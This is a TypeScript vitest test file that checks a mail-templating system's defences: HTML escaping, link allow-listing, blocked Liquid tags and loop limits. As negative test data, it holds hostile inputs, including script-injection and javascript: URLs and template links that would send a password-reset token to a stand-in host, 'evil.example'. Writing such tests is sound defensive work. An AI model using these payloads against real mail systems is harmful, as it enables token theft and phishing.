import { describe, expect, it } from "vitest";
import { composeTemplatedMail, type MailLinks } from "./compose-templated-mail";
import { parseTemplate, TemplateSyntaxError } from "./template-engine";
import { checkTemplateLinks } from "./template-links";

const frame = { footer: "Sent by the centre.", buttonFallback: "Copy this link:" };
const allowed = ["name", "url", "message", "reset_url"];
const site: MailLinks = { allowed: (url) => URL.canParse(url) && new URL(url).origin === "https://example.org" };
const compose = (body: string, values: Record<string, string>, subject = "Hello {{ name }}", links = site) =>
  composeTemplatedMail({ subject, body }, values, allowed, frame, links);

describe("a templated mail", () => {
  it("makes paragraphs, one button and small print from blank-line blocks", () => {
    const mail = compose("Dear {{ name }},\n\nWelcome.\n\n[Open]({{ url }})\n\nThe link works for a day.", {
      name: "Anna",
      url: "https://example.org/x?a=1&b=2",
    });
    expect(mail.subject).toBe("Hello Anna");
    expect(mail.html).toContain(">Dear Anna,</p>");
    expect(mail.html).toContain('<a href="https://example.org/x?a=1&amp;b=2"');
    expect(mail.html).toMatch(/font-size:13px;color:#555">The link works for a day\.<\/p>/);
    expect(mail.text).toBe(
      "Dear Anna,\n\nWelcome.\n\nOpen: https://example.org/x?a=1&b=2\n\nThe link works for a day.\n\n--\n\nSent by the centre.",
    );
  });

  it("escapes values in HTML and keeps them out of the mail's structure", () => {
    const hostile = "<script>alert(1)</script>\n\n[Pay here](https://evil.example)";
    const mail = compose("From {{ name }}:\n\n{{ message }}", { name: "<b>Eve</b>", message: hostile, url: "" });
    expect(mail.html).not.toContain("<script>");
    expect(mail.html).not.toContain("<b>");
    expect(mail.html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;<br><br>[Pay here](https://evil.example)");
    expect(mail.html).not.toContain('href="https://evil.example"');
    expect(mail.text).toContain(hostile);
  });

  it("does not let `raw` unwrap a value", () => {
    const mail = compose("{{ message | raw }}", { message: "[x](https://evil.example)", name: "", url: "" });
    expect(mail.html).not.toContain('href="https://evil.example"');
  });

  it("makes no button of a link that is not http(s)", () => {
    const mail = compose("[Open]({{ url }})", { url: "javascript:alert(1)", name: "" });
    expect(mail.html).not.toContain("<a ");
  });

  it("leaves out a block whose condition is false, and keeps a subject on one line", () => {
    const body = "Hi.\n\n{% if message != blank %}Message: {{ message }}{% endif %}\n\nBye.";
    const mail = compose(body, { message: "", name: "A\nB", url: "" });
    expect(mail.text.split("\n\n").slice(0, 2)).toEqual(["Hi.", "Bye."]);
    expect(mail.subject).toBe("Hello A B");
  });

  it("refuses unknown variables, file tags, unknown filters and broken Liquid", () => {
    const kind = (source: string) => {
      try {
        parseTemplate(source, allowed);
        return "ok";
      } catch (error) {
        return error instanceof TemplateSyntaxError ? `${error.kind}:${error.detail.split(",")[0]}` : "other";
      }
    };
    expect(kind("{{ name }} {% assign x = 1 %}{{ x }}")).toBe("ok");
    expect(kind("{{ password }}")).toBe("variable:password");
    expect(kind("{% include 'secrets' %}")).toBe("tag:include");
    expect(kind("{% render 'x' %}")).toBe("tag:render");
    expect(kind("{{ name | nope }}")).toMatch(/^syntax:undefined filter: nope/);
    expect(kind("{% if name %}")).toMatch(/^syntax:/);
  });

  it("stops a template that would loop for ever", () => {
    expect(() => compose("{% for i in (1..100000000) %}{{ i }}{% endfor %}", { name: "", url: "" })).toThrow();
  });

  it("stops a template that would loop for ever with a TemplateSyntaxError, not an engine error", () => {
    const slow = "{% for i in (1..100000000) %}{{ i }}{% endfor %}";
    expect(() => compose(slow, { name: "", url: "" }, "x", { ...site, strict: true })).toThrow(/limit/);
    try {
      compose(slow, { name: "", url: "" }, "x", { ...site, strict: true });
    } catch (error) {
      expect(error).toBeInstanceOf(TemplateSyntaxError);
      expect((error as TemplateSyntaxError).kind).toBe("limit");
    }
  });
});

describe("links in a templated mail", () => {
  const reset = "https://example.org/nl/auth/reset?reset_password_token=secret";
  const evil = "[Reset](https://evil.example/r?t={{ reset_url | url_encode }})";

  it("leaves out a button and addresses that lead elsewhere, also made by Liquid, and keeps the site's own", () => {
    const glued = '{{ "evil.example/r?t=" }}{{ reset_url }}';
    const body = `Hi.\n\n${evil}\n\nOr https://evil.example/?t={{ reset_url }} or {{ "https:" | append: "//evil.example" }} or ${glued}.\n\nSee https://example.org/help`;
    const mail = compose(body, { name: "", url: "", reset_url: reset, message: "" });
    expect(mail.html).not.toContain("evil.example");
    expect(mail.text).not.toContain("evil.example");
    expect(mail.html).not.toContain("<a ");
    expect(mail.text).toContain("See https://example.org/help");
    expect(mail.text).not.toContain("secret");
  });

  it("gives a security mail the platform's button, with the template's words only", () => {
    const action = { label: "Choose a password", url: reset };
    const own = compose(`Hi.\n\n${evil}`, { name: "", url: "", reset_url: reset, message: "" }, "x", { ...site, action });
    expect(own.html).toContain(`<a href="${reset.replaceAll("&", "&amp;")}"`);
    expect(own.html).toContain(">Reset</a>");
    expect(own.html).not.toContain("evil.example");
    const none = compose("Hi, no button.", { name: "", url: "", reset_url: reset, message: "" }, "x", { ...site, action });
    expect(none.text).toContain(`Choose a password: ${reset}`);
  });

  it("keeps a link variable in brackets or before a full stop, wherever its address is", () => {
    const url = "https://elsewhere.example/x";
    const mail = compose("See ({{ url }}), or {{ url }}.", { name: "", url, message: "" }, "x", { ...site, strict: true });
    expect(mail.text).toContain(`See (${url}), or ${url}.`);
  });

  it("keeps an address a person wrote in a value as text, never as a button", () => {
    const message = "Look at https://elsewhere.example/page";
    const mail = compose("{{ message }}\n\n[Open]({{ message }})", { name: "", url: "", message });
    expect(mail.text).toContain(message);
    expect(mail.html).not.toContain('href="https://elsewhere.example');
  });

  it("refuses on save a link target that is not exactly a link variable or the site's own address", () => {
    const kind = (source: string) => {
      try {
        checkTemplateLinks(source, allowed, site.allowed);
        return "ok";
      } catch (error) {
        return error instanceof TemplateSyntaxError ? error.kind : "other";
      }
    };
    expect(kind("[Go]({{ reset_url }})\n\nhttps://example.org/help")).toBe("ok");
    expect(kind("[Go]({{- reset_url -}})")).toBe("linkVariable");
    expect(kind("Open evil.example/r?t={{ reset_url }}")).toBe("linkVariable");
    expect(kind("Open evil.example/r?t=https://example.org/x")).toBe("link");
    expect(kind(evil)).toBe("link");
    expect(kind("[Go]({{ url }})")).toBe("link");
    expect(kind('<a href="{{ reset_url | url_encode }}">x</a>')).toBe("link");
    expect(kind('<a href="{{ message }}">x</a>')).toBe("link");
    expect(kind("[Go](https://example.org.evil.example/x)")).toBe("link");
    expect(kind("[Go](https://example.org@evil.example/x)")).toBe("link");
    expect(kind("Visit https://{{ name }}.example.org/")).toBe("link");
    expect(kind("Visit www.evil.example now")).toBe("link");
    expect(kind('{{ "https://evil.example" }}')).toBe("link");
    expect(kind("{{ reset_url | url_encode }}")).toBe("linkVariable");
    expect(kind("{% assign x = reset_url %}{{ x }}")).toBe("linkVariable");
  });
});
